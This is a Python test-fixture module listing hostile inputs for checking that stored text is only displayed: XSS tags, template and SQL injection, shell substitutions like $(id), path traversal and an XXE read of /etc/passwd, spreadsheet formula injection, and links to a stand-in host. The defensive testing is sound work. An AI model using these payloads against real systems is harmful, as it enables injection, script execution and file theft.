"""Texts that try to be something else, made up for these tests: markup, scripts, addresses, formulas, escapes.

Each is a thing somebody could paste into a field or into the text of a record. None may do anything but be read.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/a.js></script>",
    "<ScRiPt\n>alert`1`</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<svg><style>@import'//evil.example'</style></svg>",
    "<a href='javascript:alert(1)'>go</a>",
    '<a href="&#106;ava&Tab;script:alert(1)">go</a>',
    "<a href=data:text/html;base64,PHNjcmlwdD4=>go</a>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=//evil.example><embed src=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/a.css>",
    "<p style='background:url(//evil.example/p.png)'>x",
    "<form action=//evil.example><button formaction=javascript:alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)-->",
    "]]><b>x</b><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#0; &#x3c;b&#x3e; &nosuch;",
    "<<b>nested</b>> < > << >> <3 </ <",
    "\"onmouseover=alert(1) x=\" 'onmouseover=alert(1) x=' `onmouseover=alert(1)`",
    "</title></textarea></style></template></xmp><plaintext>",
)
WORDS_OF_OTHERS = (
    "{{ 7*7 }} {% raw %} {# gone #} ${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "{{ self.__init__.__globals__ }} {{ config }}",
    "%s %n %(name)s {0} {x!r:>{y}} {0.__class__} $HOME `id` $(id) ; id | id && id",
    "\\documentclass{x} \\input{/etc/passwd} } { @article{x, title={y}} % \\end{document} $x^2$ ~ #1",
    "'); DROP TABLE decisions; -- \" ; \\ \\' \\\" \\u003c \\x3c \\n",
    "../../../../etc/passwd ..\\..\\x %2e%2e%2f file:///etc/passwd /../x",
    "return 301 //evil.example; } location / { deny all; # \" ' \\",
    "u2028 \u2028 u2029 \u2029 nbsp \u00a0 shy \u00ad zwj \u200d zwsp \u200b ogham \u1680 nel",
    "left \u200e right \u200f arabic \u0627\u0644 hebrew \u05d0\u05d1 emoji \U0001f46e\u200d\u2640 a\u0301\u0302",
    "\u201cdouble\u201d \u2018single\u2019 \u00abguillemets\u00bb \uff1cscript\uff1e \u02bc \u2032 ` \u00b4",
    "a" * 120,
    "Content-Type: text/html Set-Cookie: a=b Contact: mailto:x@evil.example",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("//evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    "%0A=1",
)
"""What a spreadsheet may take for a formula: it has to stand at the beginning."""
MARKDOWN = (
    "[go](javascript:alert(1)) [go](JaVaScRiPt:alert(1)) [go](java&#115;cript:alert(1)) [go](<java\tscript:alert(1)>)",
    "[go](data:text/html,<script>alert(1)</script>) [go](vbscript:x) [go](//evil.example) [go](\\\\evil.example\\x)",
    "![x](https://evil.example/p.png) ![x](x' onerror='alert(1)) ![x](javascript:alert(1))",
    '[x]: javascript:alert(1) "title"\n\n[x] [go][x]',
    '[go](https://northfold.example/"onclick="alert(1)) [go](/x "a\\" onclick=alert(1)")',
    "<javascript:alert(1)> <https://evil.example/<script>> <x@evil.example?body=<b>>",
    "`<script>alert(1)</script>` ``</code><img src=x onerror=alert(1)>``",
    "    <script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "> > > <img src=x onerror=alert(1)>\n> - <svg onload=alert(1)>",
    "| <b>a</b> | b |\n| --- | :-: |\n| <img src=x onerror=alert(1)> | `</td><script>` |",
    '## <script>alert(1)</script> {#x" onclick="alert(1)}',
    "Text { onclick=alert(1) } {: onclick=alert(1) style=x } {#id .class}",
    "Term[^1].\n\n[^1]: <img src=x onerror=alert(1)> [go](javascript:alert(1))",
    '*[OPCC]: "><script>alert(1)</script>',
    "**_***<b>__*~~ `` [[[[ ]]]] ((( !!! \\\\<b\\>",
    'portal:000000000000000000000000-0 href="portal:000000000000000000000000-0"',
    "\x02klzzwxh:0001\x03 wzxhzdk:0",
)
"""What is only something in the text of a record.

The last is the mark under which the reader of Markdown hides things.
"""
PATHS = (
    "..", "../x", "x/../y", "/etc/passwd", "x/../../y", "C:\\x", "..\\x", "%2e%2e/x", ".hidden", "x/.git/config", "",
    "x\ny", "x\x00y", "x y", 'x"y', "x;y", "x{y", "javascript:alert(1)", "//evil.example", "x/", "~root", "-rf", "x//y",
    "x'y", "x$y", "x#y", "x?y", "con<b>", "\u2215etc", "\uff0e\uff0e/x",
)  # fmt: skip
"""What would lead out of a folder, or break out of a line of a server's configuration."""


def packed(most: int, texts: Sequence[str] = (*MARKUP, *WORDS_OF_OTHERS)) -> Iterator[str]:
    """All of the texts, as many together as a field of `most` characters holds, so that few sites try them all.

    The first ones begin with a formula each.
    """
    formulas = iter(FORMULAS)
    held = next(formulas)
    for text in texts:
        assert len(text) <= most, text
        if len(held) + 1 + len(text) > most:
            yield held
            held = next(formulas, "")
        held = f"{held} {text}" if held and len(held) + 1 + len(text) <= most else text
    yield held
    assert next(formulas, "") == ""
